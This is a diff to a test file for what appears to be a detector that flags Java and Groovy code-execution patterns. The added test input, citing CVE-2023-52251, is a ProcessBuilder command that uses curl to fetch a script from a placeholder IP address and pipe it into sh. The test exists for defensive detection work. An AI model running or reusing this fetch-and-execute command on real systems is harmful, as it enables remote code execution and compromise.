@@ -175,6 +175,9 @@ describe('Java: expressions and lookups', () => {
     expect(idsOf('java.lang.Runtime exec example')).toEqual([]);
     expect(idsOf('difference between java.lang.ProcessBuilder and Runtime')).toEqual([]);
     expect(idsOf('java.lang.Runtime')).toEqual([420102]);
+    // Groovy and Java scripts import java.lang: a process built by its simple name (a Groovy filter, CVE-2023-52251).
+    expect(idsOf('new ProcessBuilder("sh","-c","curl http://198.51.100.24/k.sh|sh").start()')).toContain(420102);
+    expect(idsOf('ProcessBuilder vs Runtime.exec')).toEqual([]);
     expect(idsOf('org.apache.commons.collections.functors.InvokerTransformer')).toEqual([420102]);
   });
 });
